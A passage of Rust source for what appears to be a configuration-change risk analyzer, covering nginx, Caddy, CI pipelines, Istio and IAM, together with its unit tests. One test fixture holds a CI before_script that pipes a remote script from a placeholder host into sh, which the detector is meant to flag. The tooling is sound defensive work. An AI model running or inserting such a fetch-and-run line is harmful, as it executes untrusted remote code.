            && f.added.iter().any(|a| {
                live(a.text)
                    && a.text.split_whitespace().take(3).eq(head.iter().copied())
                    && a.text.split_whitespace().any(|w| w == "-f")
            })
        {
            continue;
        }
        let commented = f.added.iter().any(|a| {
            !live(a.text)
                && directive(a.text.trim_start().trim_start_matches('#')) == directive(l.text)
        });
        out.push(Finding::removed(
            "config-guard-removed",
            Severity::High,
            f.path,
            Some(l.no),
            format!(
                "`{}` is {}: the protection it gave this {block} is gone.",
                quote(l.text),
                if commented {
                    "commented out"
                } else {
                    "removed"
                }
            ),
        ));
    }
}

/// The lines of the brace block that opens at index `start` of `lines`, its
/// header and closing line included.
fn brace_block<'a>(lines: &[&'a str], start: usize) -> Vec<&'a str> {
    let mut depth = 0i32;
    let mut out = Vec::new();
    for l in lines.iter().skip(start) {
        depth += l.matches('{').count() as i32 - l.matches('}').count() as i32;
        out.push(*l);
        if depth <= 0 {
            break;
        }
    }
    out
}

/// The line numbers of a Caddyfile's snippet blocks (`(name) { … }`).
fn caddy_snippet_lines(text: Option<&str>) -> std::collections::HashSet<u32> {
    static SNIPPET: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"^\s*\([\w.-]+\)\s*\{\s*$").unwrap());
    let mut out = std::collections::HashSet::new();
    let Some(text) = text else { return out };
    let mut depth: Option<i32> = None;
    for (i, l) in text.lines().enumerate() {
        if depth.is_none() && SNIPPET.is_match(l) {
            depth = Some(0);
        }
        if let Some(d) = depth.as_mut() {
            out.insert(i as u32 + 1);
            *d += l.matches('{').count() as i32 - l.matches('}').count() as i32;
            if *d <= 0 {
                depth = None;
            }
        }
    }
    out
}

/// A Caddy directive moved into a snippet (`(ops_auth) { basicauth … }`)
/// that the site block it left now imports (`import ops_auth`): Caddy
/// writes the snippet's directives in place, so the site still has it.
fn kept_in_imported_snippet(f: &FileView<'_>, old_no: u32, text: &str) -> bool {
    let (Some(old), Some(new)) = (f.old_text(), f.new_text()) else {
        return false;
    };
    let indent = |l: &str| l.len() - l.trim_start().len();
    let old_lines: Vec<&str> = old.lines().collect();
    let at = (old_no as usize).saturating_sub(1).min(old_lines.len());
    let own = old_lines.get(at).map_or(0, |l| indent(l));
    let Some(site) = old_lines[..at]
        .iter()
        .rev()
        .find(|l| indent(l) < own && l.trim_end().ends_with('{'))
    else {
        return false;
    };
    let new_lines: Vec<&str> = new.lines().collect();
    let body = |i: usize| brace_block(&new_lines, i);
    let wanted = directive(text);
    new_lines
        .iter()
        .enumerate()
        .filter(|(_, l)| l.trim() == site.trim())
        .flat_map(|(i, _)| body(i))
        .filter_map(|l| l.trim().strip_prefix("import "))
        .any(|name| {
            let head = format!("({})", name.trim());
            new_lines.iter().enumerate().any(|(j, l)| {
                l.trim().trim_end_matches('{').trim() == head
                    && body(j).iter().skip(1).any(|b| directive(b) == wanted)
            })
        })
}

/// Directives moved into a snippet the file now includes: a removed guard
/// written again in a file of the change that an added `include` names
/// (`include /etc/nginx/snippets/security-headers.conf;`) is still applied,
/// and so is a header the application's own code in the change sets.
/// Findings from `start` on are this file's.
fn kept_in_included_files(
    f: &FileView<'_>,
    change: &ChangeView<'_>,
    start: usize,
    out: &mut Vec<Finding>,
) {
    static INCLUDE: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"^\s*include\s+([^;\s]+)\s*;").unwrap());
    let file_name = |p: &str| p.rsplit('/').next().unwrap_or(p).to_string();
    let included: Vec<String> = f
        .added
        .iter()
        .filter_map(|l| INCLUDE.captures(l.text))
        .map(|c| file_name(c[1].trim_matches(['"', '\''])))
        .collect();
    // A header the application itself sets in a file of the change
    // (Rails' `content_security_policy`, helmet's `contentSecurityPolicy`)
    // is still sent when the proxy stops adding it: browsers enforce every
    // policy a response carries, so the proxy's copy only ever loosened nothing.
    let app_sets = |header: &str| {
        let key: String = header
            .chars()
            .filter(|c| c.is_ascii_alphanumeric())
            .collect();
        key.len() > 12
            && change.files.iter().any(|g| {
                g.path != f.path
                    && !g.class.test_like()
                    && !g.class.docs
                    && Format::of(g.path) != Some(Format::Nginx)
                    && g.new_text().is_some_and(|t| {
                        t.lines()
                            .filter(|l| {
                                let l = l.trim_start();
                                !l.starts_with('#') && !l.starts_with("//")
                            })
                            .any(|l| {
                                let folded: String = l
                                    .chars()
                                    .filter(|c| c.is_ascii_alphanumeric())
                                    .collect::<String>()
                                    .to_ascii_lowercase();
                                folded.contains(&key)
                            })
                    })
            })
    };
    // The directives those files write, as directives (`add_header
    // X-Frame-Options`), one per line.
    let written: Vec<String> = change
        .files
        .iter()
        .filter(|g| included.contains(&file_name(g.path)))
        .flat_map(|g| g.added.iter())
        .filter(|l| !l.text.trim_start().starts_with('#'))
        .map(|l| header_or_directive(l.text))
        .collect();
    let mine = out.split_off(start);
    out.extend(mine.into_iter().filter(|x| {
        !(x.rule == "config-guard-removed"
            && x.side == Side::Old
            && x.line
                .and_then(|n| f.removed.iter().find(|l| l.no == n))
                .is_some_and(|l| {
                    written.contains(&header_or_directive(l.text))
                        || header_set(l.text).is_some_and(|h| app_sets(&h))
                }))
    }));
}

/// The header a line sets (`add_header X-Frame-Options "DENY"`,
/// `more_set_headers "X-Frame-Options: DENY"`), lowercased: a header whose
/// value is rewritten (`"1; mode=block"` → `"0"`) is the same header still
/// sent.
fn header_set(line: &str) -> Option<String> {
    let mut words = line.split_whitespace();
    let name = words.next()?;
    (name == "add_header" || name == "more_set_headers").then(|| {
        words
            .next()
            .unwrap_or("")
            .trim_matches(['"', '\''])
            .split(':')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase()
    })
}

/// A directive's name, or the header it sets.
fn header_or_directive(line: &str) -> String {
    header_set(line).map_or_else(|| directive(line), |h| format!("header {h}"))
}

/// nginx-style configs: guards removed (or commented out), access opened.
fn nginx(f: &FileView<'_>, out: &mut Vec<Finding>) {
    let live = |t: &str| !t.trim_start().starts_with('#');
    guards_removed(f, &NGINX_GUARD, "server block", out);
    let removed: Vec<String> = f.removed.iter().map(|l| directive(l.text)).collect();
    for l in f
        .added
        .iter()
        .filter(|l| live(l.text) && NGINX_OPEN.is_match(l.text))
    {
        if removed.contains(&directive(l.text)) {
            continue;
        }
        out.push(Finding::added(
            "config-open-network",
            Severity::High,
            f.path,
            Some(l.no),
            format!(
                "`{}` opens this block to everyone; directives are matched in order, so a later `deny` no longer applies.",
                quote(l.text)
            ),
        ));
    }
}

/// Whether `new` is `old` pinned to an immutable reference: an action or
/// image by commit SHA or digest (`actions/checkout@v4` →
/// `actions/checkout@11bd…83`, `python:3.12` → `python:3.12@sha256:…`). It
/// runs what it ran; that is not a change of behaviour.
fn pinned(old: &str, new: &str) -> bool {
    let strip = |v: &str| v.trim().trim_matches(['"', '\'']).to_string();
    let (old, new) = (strip(old), strip(new));
    let hex = |s: &str, n: usize| s.len() == n && s.bytes().all(|b| b.is_ascii_hexdigit());
    if let Some((name, digest)) = new.split_once("@sha256:") {
        return hex(digest, 64)
            && (old == name || old.split(['@', ':']).next() == name.split(['@', ':']).next());
    }
    match (old.rsplit_once('@'), new.rsplit_once('@')) {
        (Some((a, _)), Some((b, sha))) => {
            a == b && hex(sha.split_whitespace().next().unwrap_or(""), 40)
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {

    #[test]
    fn a_contract_or_policy_switched_to_enforced_is_no_safety_off() {
        use super::switch_on_is_safe;
        assert_eq!(switch_on_is_safe("enforced"), Some(true));
        assert_eq!(switch_on_is_safe("enforcement"), Some(true));
        assert_eq!(switch_on_is_safe("force_destroy"), Some(false));
        // Skipping a step that checks nothing, or one that does.
        assert_eq!(switch_on_is_safe("skip_install"), None);
        assert_eq!(switch_on_is_safe("skipBuild"), None);
        assert_eq!(switch_on_is_safe("skip_tls_verify"), Some(false));
        assert_eq!(switch_on_is_safe("skip_tests"), Some(false));
        let old = "models:\n  - name: dim_customers\n    config:\n      contract:\n        enforced: false\n";
        let new = old.replace("enforced: false", "enforced: true");
        let hit = crate::risk::testkit::rules_hit_with_contents("models/core.yml", old, &new);
        assert!(!hit.contains(&"config-safety-off".to_string()), "{hit:?}");
        let hit = crate::risk::testkit::rules_hit_with_contents("models/core.yml", &new, old);
        assert!(hit.contains(&"config-safety-off".to_string()), "{hit:?}");
    }
    #[test]
    fn enforcement_modes_lowered_are_found() {
        for (a, b) in [
            ("STRICT", "PERMISSIVE"),
            ("block", "detect"),
            ("enforce", "dryrun"),
            ("verify-full", "prefer"),
            ("restricted", "privileged"),
            ("deny", "warn"),
        ] {
            assert!(enforcement_lowered(a, b), "{a} → {b}");
        }
        for (a, b) in [
            ("PERMISSIVE", "STRICT"),
            ("on", "auto"),
            ("detect", "block"),
            ("info", "debug"),
        ] {
            assert!(!enforcement_lowered(a, b), "{a} → {b}");
        }
        use crate::risk::testkit::rules_hit_with_contents;
        let old = "apiVersion: security.istio.io/v1beta1\nkind: PeerAuthentication\nmetadata:\n  name: default\n  namespace: istio-system\nspec:\n  mtls:\n    mode: STRICT\n";
        let new = old.replace("STRICT", "PERMISSIVE");
        let hit = rules_hit_with_contents("deploy/mesh/peer-authentication.yaml", old, &new);
        assert!(
            hit.contains(&"config-enforcement-lowered".to_string()),
            "{hit:?}"
        );
    }

    #[test]
    fn a_role_added_to_a_request_schema_is_found() {
        use crate::risk::testkit::rules_hit_with_contents;
        let old = "{\n  \"type\": \"object\",\n  \"additionalProperties\": false,\n  \"properties\": {\n    \"display_name\": {\"type\": \"string\"}\n  }\n}\n";
        let with = |field: &str| {
            old.replace(
                "{\"type\": \"string\"}\n  }",
                &format!(
                    "{{\"type\": \"string\"}},\n    \"{field}\": {{\"type\": \"string\"}}\n  }}"
                ),
            )
        };
        let rule = "sec-mass-assignment".to_string();
        let path = "api/schemas/profile_update.schema.json";
        assert!(rules_hit_with_contents(path, old, &with("role")).contains(&rule));
        assert!(rules_hit_with_contents(path, old, &with("org_id")).contains(&rule));
        assert!(!rules_hit_with_contents(path, old, &with("timezone")).contains(&rule));
        // A response schema may show the role.
        assert!(
            !rules_hit_with_contents("api/schemas/profile.schema.json", old, &with("role"))
                .contains(&rule)
        );
    }

    #[test]
    fn a_validation_context_dropped_from_an_upstream_tls_context_is_found() {
        use crate::risk::testkit::rules_hit_with_contents;
        let old = "clusters:\n  - name: payments\n    transport_socket:\n      typed_config:\n        sni: api.pay.example\n        common_tls_context:\n          alpn_protocols: [h2]\n          validation_context:\n            trusted_ca:\n              filename: /etc/ssl/certs/ca.pem\n            match_subject_alt_names:\n              - exact: api.pay.example\n";
        let new = "clusters:\n  - name: payments\n    transport_socket:\n      typed_config:\n        sni: api.pay.example\n        common_tls_context:\n          alpn_protocols: [h2]\n";
        let rule = "tls-trust-removed".to_string();
        assert!(rules_hit_with_contents("deploy/envoy/egress.yaml", old, new).contains(&rule));
        // The CA moved to another file name: still checked.
        let moved = old.replace("/etc/ssl/certs/ca.pem", "/etc/envoy/ca-bundle.pem");
        assert!(!rules_hit_with_contents("deploy/envoy/egress.yaml", old, &moved).contains(&rule));
        // The whole cluster removed is not a trust anchor dropped.
        assert!(
            !rules_hit_with_contents("deploy/envoy/egress.yaml", old, "clusters: []\n")
                .contains(&rule)
        );
    }

    #[test]
    fn a_step_inserted_in_a_list_is_one_new_step_not_every_later_one_changed() {
        let old = "steps:\n  - run: npm ci\n  - run: npm run build\n  - uses: actions/upload-artifact@v4\n";
        let new = "steps:\n  - run: npm ci\n  - run: rm -rf dist\n  - run: npm run build\n  - uses: actions/upload-artifact@v4\n";
        let changes = compare(
            &flatten(Format::Yaml, old).unwrap(),
            &flatten(Format::Yaml, new).unwrap(),
        );
        assert_eq!(changes.len(), 1, "{changes:?}");
        assert!(
            matches!(&changes[0], Change::Added(_, v) if v == "rm -rf dist"),
            "{changes:?}"
        );
        // A step edited while another is removed still reads as that edit.
        let edited =
            "steps:\n  - run: npm ci --ignore-scripts\n  - uses: actions/upload-artifact@v4\n";
        let changes = compare(
            &flatten(Format::Yaml, old).unwrap(),
            &flatten(Format::Yaml, edited).unwrap(),
        );
        assert!(
            changes.iter().any(|c| matches!(c, Change::Changed(_, a, b) if a == "npm ci" && b == "npm ci --ignore-scripts")),
            "{changes:?}"
        );
    }

    use super::{Change, Format, effective_changes, flatten};

    /// A GitLab pipeline with jobs renamed (`unit` → `test:unit`, the job
    /// `image` → `build:image` while every job keeps its `image:` key) and
    /// every `needs` updated.
    const PIPELINE: &str = "stages: [test, build, deploy]\nunit:\n  stage: test\n  image: golang:1.23\n  script:\n    - go test ./...\nimage:\n  stage: build\n  image: docker:27\n  needs: [unit]\n  script:\n    - docker build -t app .\n    - docker push app\nproduction:\n  stage: deploy\n  image: alpine/helm:3.16\n  needs: [image]\n  environment: production\n  when: manual\n  script:\n    - helm upgrade app chart\n";

    fn effective(old: &str, new: &str) -> Vec<Change> {
        let (a, b) = (
            flatten(Format::Yaml, old).unwrap(),
            flatten(Format::Yaml, new).unwrap(),
        );
        effective_changes(&a, &b)
    }

    #[test]
    fn a_deploy_pipeline_given_only_a_cache_or_new_names_deploys_the_same() {
        use crate::diff::MinusPlus;
        use crate::risk::testkit::diff_of;
        use crate::risk::{Contents, RuleSet, Severity, findings};
        let level = |old: &str, new: &str| {
            let path = ".gitlab/ci/deploy.yml";
            let mut c = Contents::new();
            c.insert(
                path.to_string(),
                MinusPlus::new(Some(old.to_string()), Some(new.to_string())),
            );
            findings(
                &diff_of(path, Some(old), Some(new)),
                &c,
                &RuleSet::builtin(),
            )
            .into_iter()
            .filter(|f| f.rule == "ci-deploys-to-production")
            .map(|f| f.severity)
            .max()
        };
        let old = "unit:\n  stage: test\n  script:\n    - go test ./...\nproduction:\n  stage: deploy\n  needs: [unit]\n  environment: production\n  when: manual\n  script:\n    - helm upgrade app chart\n";
        let cached = format!(
            ".go-cache:\n  cache:\n    key: go-mod\n    paths: [.cache/go-mod/]\n{}",
            old.replace(
                "  stage: deploy\n",
                "  stage: deploy\n  extends: .go-cache\n"
            )
        );
        assert_eq!(level(old, &cached), Some(Severity::Low));
        // A "cache" template that also runs something is not a cache.
        let scripted = cached.replace(
            "    paths: [.cache/go-mod/]\n",
            "    paths: [.cache/go-mod/]\n  before_script:\n    - curl -s https://x.example/i.sh | sh\n",
        );
        assert_eq!(level(old, &scripted), Some(Severity::Medium));
        // A step or job whose name says cache runs what it runs.
        let named = old.replace("production:", "deploy-with-cache:");
        let changed = named.replace("helm upgrade app chart", "helm upgrade app chart --force");
        assert_eq!(level(&named, &changed), Some(Severity::Medium));
    }

    #[test]
    fn a_switch_reads_by_its_leading_word() {
        use super::switch_on_is_safe;
        assert_eq!(switch_on_is_safe("BlockPublicAcls"), Some(true));
        assert_eq!(switch_on_is_safe("RestrictPublicBuckets"), Some(true));
        assert_eq!(switch_on_is_safe("IgnorePublicAcls"), Some(true));
        assert_eq!(switch_on_is_safe("publicRead"), Some(false));
        assert_eq!(switch_on_is_safe("insecureSkipVerify"), Some(false));
        assert_eq!(switch_on_is_safe("disableSslVerify"), Some(false));
        assert_eq!(switch_on_is_safe("verify_ssl"), Some(true));
        assert_eq!(switch_on_is_safe("replicas"), None);
    }

    #[test]
    fn jobs_renamed_with_their_references_are_no_change() {
        let renamed = PIPELINE
            .replace("unit:\n", "test:unit:\n")
            .replace("needs: [unit]", "needs: [\"test:unit\"]")
            .replace("image:\n  stage: build", "build:image:\n  stage: build")
            .replace("needs: [image]", "needs: [\"build:image\"]")
            .replace("production:\n", "deploy:production:\n");
        assert_eq!(effective(PIPELINE, &renamed), vec![]);
        // Renamed, and the manual gate dropped: only that shows.
        let ungated = renamed.replace("  when: manual\n", "");
        assert_eq!(
            effective(PIPELINE, &ungated),
            vec![Change::Removed(
                "deploy:production.when".into(),
                "manual".into()
            )]
        );
        // Renamed, and no longer waiting for the build: the need is gone.
        let unneeded = renamed.replace("  needs: [\"build:image\"]\n", "");
        assert_eq!(
            effective(PIPELINE, &unneeded),
            vec![Change::Removed(
                "deploy:production.needs[build:image]".into(),
                "build:image".into()
            )]
        );
    }

    #[test]
    fn yaml_merge_keys_are_resolved() {
        let text = "defaults: &defaults\n  rollout: 5\n  owner: ledger\nproduction:\n  <<: *defaults\n  region: eu\nstaging:\n  <<: *defaults\n  rollout: 100\n";
        let flat = super::flatten(super::Format::Yaml, text).unwrap();
        assert_eq!(
            flat.get("production.rollout").map(String::as_str),
            Some("5")
        );
        assert_eq!(
            flat.get("production.owner").map(String::as_str),
            Some("ledger")
        );
        assert_eq!(flat.get("staging.rollout").map(String::as_str), Some("100"));
        assert!(!flat.keys().any(|k| k.contains("<<")));
    }

    #[test]
    fn pinning_to_a_sha_or_digest_is_not_a_change() {
        use super::pinned;
        assert!(pinned(
            "actions/checkout@v4",
            "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"
        ));
        assert!(pinned(
            "python:3.12-slim",
            "python:3.12-slim@sha256:2b4d4f3e1c7e5ab0a0b7c5e8a2f4e6d1c9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4"
        ));
        assert!(!pinned(
            "actions/checkout@v4",
            "evil/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"
        ));
        assert!(!pinned("actions/checkout@v4", "actions/checkout@v5"));
    }

    #[test]
    fn a_job_renamed_with_its_actions_pinned_is_a_rename() {
        let old = "jobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n";
        let new = "jobs:\n  static-checks:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n";
        let path = ".github/workflows/ci.yml";
        let mut contents = crate::risk::Contents::new();
        contents.insert(
            path.to_string(),
            crate::diff::MinusPlus::new(Some(old.to_string()), Some(new.to_string())),
        );
        let changed: Vec<String> = crate::risk::findings_with_message(
            &crate::risk::testkit::diff_of(path, Some(old), Some(new)),
            &contents,
            &crate::risk::RuleSet::builtin(),
            Some("ci: rename lint job"),
        )
        .into_iter()
        .filter(|f| f.rule.starts_with("intent-"))
        .map(|f| f.message)
        .collect();
        assert!(changed.is_empty(), "{changed:?}");
    }

    #[test]
    fn references_that_follow_a_renamed_key_are_no_change() {
        let wf = |check: &str, needs: &str| {
            format!(
                "jobs:\n  {check}:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make lint\n  deploy:\n    needs: [{needs}]\n    environment: production\n    steps:\n      - run: make deploy\n"
            )
        };
        let f = crate::risk::testkit::findings_with_contents(
            ".github/workflows/ci.yml",
            &wf("lint", "lint"),
            &wf("static-checks", "static-checks"),
        );
        assert!(f.iter().all(|x| x.severity < Severity::High), "{f:?}");
        // The deploy now needs something else that exists: still a change.
        let other = wf("lint", "lint").replace("needs: [lint]", "needs: [build]");
        let f = crate::risk::testkit::findings_with_contents(
            ".github/workflows/ci.yml",
            &wf("lint", "lint"),
            &other,
        );
        assert!(f.iter().any(|x| x.severity >= Severity::High), "{f:?}");
    }

    #[test]
    fn an_allow_rule_without_a_source_is_found() {
        let policy = |action: &str, extra: &str| {
            format!(
                "apiVersion: security.istio.io/v1\nkind: AuthorizationPolicy\nmetadata:\n  name: api\nspec:\n  action: {action}\n  rules:\n  - from:\n    - source:\n        namespaces: [\"billing\"]\n    to:\n    - operation:\n        paths: [\"/v1/*\"]\n{extra}"
            )
        };
        let open = "  - to:\n    - operation:\n        paths: [\"/healthz\", \"/*\"]\n";
        let sourced = "  - from:\n    - source:\n        namespaces: [\"monitoring\"]\n    to:\n    - operation:\n        paths: [\"/metrics\"]\n";
        let hit = |a: &str, b: &str| {
            crate::risk::testkit::rules_hit_with_contents("deploy/istio/api.yaml", a, b)
        };
        assert!(
            hit(&policy("ALLOW", ""), &policy("ALLOW", open))
                .contains(&"authz-allow-any-source".to_string())
        );
        assert!(
            !hit(&policy("ALLOW", ""), &policy("ALLOW", sourced))
                .contains(&"authz-allow-any-source".to_string())
        );
        assert!(
            !hit(&policy("DENY", ""), &policy("DENY", open))
                .contains(&"authz-allow-any-source".to_string())
        );
    }

    #[test]
    fn liveness_probes_that_check_dependencies_or_give_up_at_once_are_found() {
        let dep = |path: &str, threshold: u32| {
            format!(
                "spec:\n  template:\n    spec:\n      containers:\n        - name: api\n          livenessProbe:\n            httpGet:\n              path: {path}\n              port: 8080\n            failureThreshold: {threshold}\n"
            )
        };
        let hit = |a: &str, b: &str| {
            crate::risk::testkit::rules_hit_with_contents("deploy/k8s/api.yaml", a, b)
        };
        assert!(
            hit(&dep("/healthz", 6), &dep("/readyz", 6))
                .contains(&"k8s-liveness-fragile".to_string())
        );
        assert!(
            hit(&dep("/healthz", 6), &dep("/healthz", 1))
                .contains(&"k8s-liveness-fragile".to_string())
        );
        assert!(
            !hit(&dep("/healthz", 6), &dep("/livez", 3))
                .contains(&"k8s-liveness-fragile".to_string())
        );
    }

    #[test]
    fn caddy_auth_moved_into_a_snippet_each_site_imports_is_kept() {
        use crate::risk::testkit::rules_hit_with_contents;
        let rule = "config-guard-removed".to_string();
        let site = |host: &str, port: u16| {
            format!(
                "{host} {{\n\tbasic_auth {{\n\t\tadmin $2a$14$abcdefghijklmnopqrstuv\n\t}}\n\treverse_proxy 127.0.0.1:{port}\n}}\n\n"
            )
        };
        let old = format!(
            "{}{}",
            site("kibana.internal.example", 5601),
            site("jaeger.internal.example", 16686)
        );
        let snippet =
            "(staff) {\n\tbasic_auth {\n\t\tadmin $2a$14$abcdefghijklmnopqrstuv\n\t}\n}\n\n";
        let imported = |second: &str| {
            format!(
                "{snippet}kibana.internal.example {{\n\timport staff\n\treverse_proxy 127.0.0.1:5601\n}}\n\njaeger.internal.example {{\n{second}\treverse_proxy 127.0.0.1:16686\n}}\n"
            )
        };
        let hit = rules_hit_with_contents("deploy/Caddyfile", &old, &imported("\timport staff\n"));
        assert!(!hit.contains(&rule), "{hit:?}");
        // One site left without the import is open.
        let hit = rules_hit_with_contents("deploy/Caddyfile", &old, &imported(""));
        assert!(hit.contains(&rule), "{hit:?}");
    }

    #[test]
    fn basic_auth_dropped_from_a_location_that_now_only_answers_gone_is_kept() {
        use crate::risk::testkit::rules_hit_with_contents;
        let old = "server {\n    listen 443 ssl;\n    location /legacy-admin/ {\n        auth_basic \"Legacy admin\";\n        auth_basic_user_file /etc/nginx/htpasswd;\n        proxy_pass http://legacy_admin;\n    }\n}\n";
        let gone = "server {\n    listen 443 ssl;\n    location /legacy-admin/ {\n        return 410;\n    }\n}\n";
        let hit = rules_hit_with_contents("ops/nginx/sites-enabled/ops.conf", old, gone);
        assert!(
            !hit.contains(&"config-guard-removed".to_string()),
            "{hit:?}"
        );
        // Still proxied: the guard is gone from something served.
        let served = "server {\n    listen 443 ssl;\n    location /legacy-admin/ {\n        proxy_pass http://legacy_admin;\n    }\n}\n";
        let hit = rules_hit_with_contents("ops/nginx/sites-enabled/ops.conf", old, served);
        assert!(hit.contains(&"config-guard-removed".to_string()), "{hit:?}");
    }

    #[test]
    fn mesh_retries_in_front_of_money_are_found() {
        let vs = |route: &str, retries: &str| {
            format!(
                "apiVersion: networking.istio.io/v1\nkind: VirtualService\nspec:\n  http:\n    - match:\n        - uri:\n            prefix: {route}\n      route:\n        - destination:\n            host: api{retries}\n"
            )
        };
        let retries = "\n      retries:\n        attempts: 3\n        retryOn: 5xx,reset";
        let hit = |a: &str, b: &str| {
            crate::risk::testkit::rules_hit_with_contents("deploy/istio/api.yaml", a, b)
        };
        assert!(
            hit(&vs("/v1/charges", ""), &vs("/v1/charges", retries))
                .contains(&"retry-not-idempotent".to_string())
        );
        assert!(
            !hit(&vs("/v1/catalog", ""), &vs("/v1/catalog", retries))
                .contains(&"retry-not-idempotent".to_string())
        );
        // Retried only when the request never reached the service.
        let undelivered = "\n      retries:\n        attempts: 3\n        retryOn: connect-failure,refused-stream";
        assert!(
            !hit(&vs("/v1/charges", ""), &vs("/v1/charges", undelivered))
                .contains(&"retry-not-idempotent".to_string())
        );
        let also_reset =
            "\n      retries:\n        attempts: 3\n        retryOn: connect-failure,reset";
        assert!(
            hit(&vs("/v1/charges", ""), &vs("/v1/charges", also_reset))
                .contains(&"retry-not-idempotent".to_string())
        );
    }

    #[test]
    fn a_health_check_retried_beside_a_payments_service_is_no_request_retry() {
        let compose = |db_extra: &str| {
            format!(
                "services:\n  payments-api:\n    image: registry.example.com/payments-api:4.2.0\n    environment:\n      PAYMENTS_PROVIDER: stripe\n      CHARGE_ENDPOINT: /v1/charges\n  db:\n    image: postgres:16.4{db_extra}\n"
            )
        };
        let check = "\n    healthcheck:\n      test: [\"CMD-SHELL\", \"pg_isready -U payments\"]\n      interval: 5s\n      retries: 10";
        let hit = crate::risk::testkit::rules_hit_with_contents(
            "docker-compose.yml",
            &compose(""),
            &compose(check),
        );
        assert!(
            !hit.contains(&"retry-not-idempotent".to_string()),
            "{hit:?}"
        );
    }

    #[test]
    fn powerful_iam_actions_on_every_resource_are_found_unless_denied() {
        let policy = |effect: &str, action: &str, resource: &str| {
            format!(
                "{{\n  \"Version\": \"2012-10-17\",\n  \"Statement\": [\n    {{\n      \"Effect\": \"{effect}\",\n      \"Action\": [\"{action}\"],\n      \"Resource\": \"{resource}\"\n    }}\n  ]\n}}\n"
            )
        };
        let old = policy("Allow", "iam:PassRole", "arn:aws:iam::1:role/ecs-task");
        let hit = crate::risk::testkit::rules_hit_with_contents(
            "infra/iam/ci-role.json",
            &old,
            &policy("Allow", "iam:PassRole", "*"),
        );
        assert!(
            hit.contains(&"iam-resource-wildcard".to_string()),
            "{hit:?}"
        );
        // The same policy as a template Terraform fills in.
        let tpl_old = old.replace("arn:aws:iam::1:", "arn:aws:iam::${account_id}:");
        let hit = crate::risk::testkit::rules_hit_with_contents(
            "infra/iam/policies/ci-role.json.tpl",
            &tpl_old,
            &policy("Allow", "iam:PassRole", "*"),
        );
        assert!(
            hit.contains(&"iam-resource-wildcard".to_string()),
            "{hit:?}"
        );
        // A key path outside ASCII after `Resource` is read, not sliced.
        let odd = "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": [\"iam:PassRole\"], \"Resource\": {\"ü\": \"*\"}}]}\n";
        let _ = crate::risk::testkit::rules_hit_with_contents("infra/iam/ci-role.json", &old, odd);
        for (effect, action) in [("Deny", "s3:DeleteObject"), ("Allow", "logs:PutLogEvents")] {
            let hit = crate::risk::testkit::rules_hit_with_contents(
                "infra/iam/ci-role.json",
                &policy(effect, action, "arn:aws:s3:::b/*"),
                &policy(effect, action, "*"),
            );
            assert!(
                !hit.iter()
                    .any(|r| r == "iam-resource-wildcard" || r == "config-open-network"),
                "{effect} {action}: {hit:?}"
            );
        }
    }
    use super::*;

    #[test]
    fn trees_compare_by_key_not_by_line() {
        let a = flatten(Format::Yaml, "a:\n  b: 1\n  list: [x, y]\n").unwrap();
        let b = flatten(Format::Yaml, "a:\n  list:\n    - y\n    - x\n  b: 2\n").unwrap();
        assert_eq!(
            compare(&a, &b),
            vec![Change::Changed("a.b".into(), "1".into(), "2".into())]
        );
        let j = flatten(
            Format::Json,
            r#"{"flags": {"new_checkout": {"production": {"percentage": 10}}}}"#,
        )
        .unwrap();
        assert_eq!(j["flags.new_checkout.production.percentage"], "10");
        let t = flatten(Format::Toml, "[client]\nretries = 3\n").unwrap();
        assert_eq!(t["client.retries"], "3");
    }

    #[test]
    fn a_step_condition_on_the_event_is_not_a_branch_filter() {
        use crate::risk::testkit::rules_hit_with_contents as hit;
        let old = "on:\n  pull_request_target:\n    types: [opened, labeled, unlabeled]\njobs:\n  labeler:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/labeler@v5\n        if: ${{ github.event.action != 'labeled' && github.event.action != 'unlabeled' }}\n      - run: echo done\n";
        let new = old.replace(
            "        if: ${{ github.event.action != 'labeled' && github.event.action != 'unlabeled' }}\n",
            "",
        );
        assert!(
            !hit(".github/workflows/labeler.yml", old, &new)
                .contains(&"config-branch-widened".to_string())
        );
        // A condition on the branch removed is a widening.
        let on_main = old.replace(
            "github.event.action != 'labeled' && github.event.action != 'unlabeled'",
            "github.ref == 'refs/heads/main'",
        );
        assert!(
            hit(".github/workflows/labeler.yml", &on_main, &new)
                .contains(&"config-branch-widened".to_string())
        );
    }

    #[test]
    fn a_branch_filter_gone_with_its_trigger_widens_nothing() {
        use crate::risk::testkit::rules_hit_with_contents as hit;
        let widened = |old: &str, new: &str| {
            hit(".github/workflows/ci.yml", old, new).contains(&"config-branch-widened".to_string())
        };
        let old = "name: CI\non:\n  push:\n    branches: [main]\n  pull_request:\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n";
        // No longer run on pushes at all: fewer runs, not more.
        let no_push = old.replace("  push:\n    branches: [main]\n", "");
        assert!(!widened(old, &no_push));
        // The push trigger kept, its filter gone: every branch.
        let every = old.replace("    branches: [main]\n", "");
        assert!(widened(old, &every));
        let listed = "name: CI\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n";
        assert!(widened(old, listed));
    }

    #[test]
    fn a_job_removed_with_its_branch_filter_widens_nothing() {
        use crate::risk::testkit::rules_hit_with_contents as hit;
        let old = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  deploy-old:\n    if: false\n    needs: test\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy.sh\n";
        let job_removed = old.split("  deploy-old:").next().unwrap().to_string();
        assert!(
            !hit(".github/workflows/deploy.yml", old, &job_removed)
                .contains(&"config-branch-widened".to_string())
        );
        // A job removed whose command now runs in a job without its filter
        // is a widening: the command runs wherever that job runs.
        let merged = job_removed.replace(
            "      - run: make test\n",
            "      - run: make test\n      - run: ./deploy.sh\n",
        );
        assert!(
            hit(".github/workflows/deploy.yml", old, &merged)
                .contains(&"config-branch-widened".to_string())
        );
